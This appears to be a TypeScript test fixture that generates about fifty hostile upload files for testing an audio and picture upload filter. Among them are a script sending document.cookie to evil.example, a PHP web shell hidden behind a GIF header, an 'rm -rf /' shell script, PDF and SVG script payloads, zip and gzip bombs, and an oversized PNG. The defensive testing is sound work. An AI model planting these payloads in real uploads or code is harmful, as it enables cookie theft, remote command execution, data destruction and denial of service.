/** Fifty hostile files, created here: what their names claim, and what they contain. */
import { deflateRawSync, deflateSync, gzipSync, crc32 } from 'node:zlib'
import { flacOf, mp3Of, murmur, RATE, silentFlacOf, vorbisOf, wavOf } from './audio-files.ts'
import type { SendableFile } from '../browser/upload-files.ts'

export interface HostileFile extends SendableFile {
  kind: 'audio' | 'picture'
  /** True if it contains valid audio or a valid picture: it is accepted, without the hidden part. */
  harmless?: boolean
}

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const page = Buffer.from(`<!doctype html><title>x</title>${SCRIPT}`)
const drawing = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 0x90)])
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(400)])
const shell = Buffer.from('#!/bin/sh\nrm -rf /\n')
const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n')
const php = Buffer.from('GIF89a;<?php system($_GET["c"]); ?>')

const noise = (length: number): Buffer =>
  Buffer.from(Array.from({ length }, (_, i) => (i * 7919 + (i >> 3) * 104_729) & 0xff))
const noisy = (bytes: Buffer, from: number): Buffer =>
  Buffer.concat([bytes.subarray(0, from), noise(bytes.length - from)])

/** Creates a zip with forty megabytes of zeros in forty kilobytes. */
const zipBomb = (): Buffer => {
  const packed = deflateRawSync(Buffer.alloc(40_000_000))
  const head = Buffer.alloc(30 + 5)
  head.write('PK\x03\x04', 0, 'latin1')
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(40_000_000, 22)
  head.writeUInt16LE(5, 26)
  head.write('a.txt', 30, 'latin1')
  return Buffer.concat([head, packed])
}

const chunk = (name: string, body: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), body])
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  size.writeUInt32BE(body.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([size, named, sum])
}

/** Creates a PNG that declares huge dimensions and has one row of pixels. */
const pngOf = (width: number, height: number, rows = 1): Buffer => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  const pixels = deflateSync(Buffer.alloc(rows * (width + 1)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))])
}

const patched = (bytes: Buffer, at: number, values: readonly number[]): Buffer => {
  const copy = Buffer.from(bytes)
  copy.set(values, at)
  return copy
}

/** Creates one Ogg page; tolerant decoders ignore its checksum. */
const oggPage = (body: Buffer, flags: number): Buffer => {
  const head = Buffer.alloc(28)
  head.write('OggS', 0, 'latin1')
  head[5] = flags
  head[26] = 1
  head[27] = body.length
  return Buffer.concat([head, body])
}
const opusHead = (channels: number): Buffer => {
  const head = Buffer.from('OpusHead\x01\x02\x00\x00\x80\xbb\x00\x00\x00\x00\x00', 'latin1')
  head[9] = channels
  return head
}

const audio = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, kind: 'audio' })
const picture = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, kind: 'picture' })

const liesAboutType = (wav: Buffer, mp3: Buffer): HostileFile[] => [
  audio('program.mp3', program),
  audio('program.flac', elf),
  audio('page.mp3', page),
  audio('page.wav', page),
  audio('drawing.ogg', drawing),
  audio('document.ogg', pdf),
  audio('script.opus', shell),
  audio('script.flac', Buffer.from('import os; os.system("x")')),
  audio('bomb.wav', zipBomb()),
  audio('bomb.mp3', gzipSync(Buffer.alloc(20_000_000))),
  audio('picture.wav', pngOf(2, 2, 2)),
  audio('sound.mp3', wav),
  audio('sound.wav', mp3),
  audio('sound.flac', mp3),
  audio('noise.opus', noise(4000)),
  audio('letter.mp3', Buffer.from('a')),
  audio('nothing.mp3', Buffer.alloc(0)),
  audio('nothing.wav', Buffer.alloc(0)),
  audio('zeros.flac', Buffer.alloc(5000)),
  picture('drawing.png', drawing),
  picture('page.jpg', page),
  picture('shell.png', php),
  picture('program.webp', program),
  picture('nothing.jpg', Buffer.alloc(0)),
]

type ValidAudio = Record<'wav' | 'mp3' | 'flac' | 'ogg', Buffer>

const brokenSounds = ({ wav, mp3, flac, ogg }: ValidAudio): HostileFile[] => [
  audio('cut.wav', wav.subarray(0, wav.length >> 1)),
  audio('head.wav', wav.subarray(0, 44)),
  audio('half-a-head.wav', wav.subarray(0, 20)),
  audio('endless.wav', patched(wav, 40, [0xfe, 0xff, 0xff, 0xff])),
  audio('crowd.wav', patched(wav, 22, [0xff, 0xff])),
  audio('nobody.wav', patched(wav, 22, [0, 0])),
  audio('slow.wav', patched(wav, 24, [1, 0, 0, 0])),
  audio('fast.wav', patched(wav, 24, [0xff, 0xff, 0xff, 0xff])),
  audio('old.wav', patched(wav, 20, [6, 0])),
  audio(
    'no-numbers.wav',
    patched(wavOf([new Float32Array(RATE * 2).fill(Number.NaN)], { bits: 32, float: true }), 44, [0]),
  ),
  audio('cut.flac', flac.subarray(0, flac.length >> 1)),
  audio('head.flac', flac.subarray(0, 42)),
  audio('noisy.flac', noisy(flac, 42)),
  audio('longer.flac', flacOf([murmur(2)], { says: 0xffff_ffff })),
  audio('ten-hours.flac', silentFlacOf(36_000)),
  audio('noisy.mp3', noisy(mp3, 500)),
  audio(
    'all-tags.mp3',
    Buffer.concat([Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f]), Buffer.alloc(3000)]),
  ),
  audio('cut.ogg', ogg.subarray(0, ogg.length >> 1)),
  audio('noisy.ogg', Buffer.concat([noisy(ogg, 300).subarray(0, 9000), oggPage(noise(200), 4)])),
  audio('crowd.ogg', patched(ogg, 28 + 11, [255])),
  audio('nobody.opus', Buffer.concat([oggPage(opusHead(0), 2), oggPage(noise(200), 4)])),
  audio('head.opus', oggPage(opusHead(2), 6)),
]

const pictures: HostileFile[] = [
  picture('town.png', pngOf(60_000, 60_000)),
  picture('cut.png', pngOf(900, 900).subarray(0, 60)),
  picture('dot.png', pngOf(1, 1)),
  picture('endless.png', patched(pngOf(900, 900), 8, [0xff, 0xff, 0xff, 0xff])),
  picture('sound.png', noise(4000)),
]

/** Audio followed by HTML: a browser that sniffs would find both. */
const polyglots = (wav: Buffer): HostileFile[] => [
  { ...audio('two-in-one.wav', Buffer.concat([wav, page])), harmless: true },
]

export const hostileFiles = async (): Promise<HostileFile[]> => {
  const voice = murmur(3)
  const [wav, mp3, flac, ogg] = [wavOf([voice]), await mp3Of([voice]), flacOf([voice]), await vorbisOf([voice])]
  return [...liesAboutType(wav, mp3), ...brokenSounds({ wav, mp3, flac, ogg }), ...pictures, ...polyglots(wav)]
}
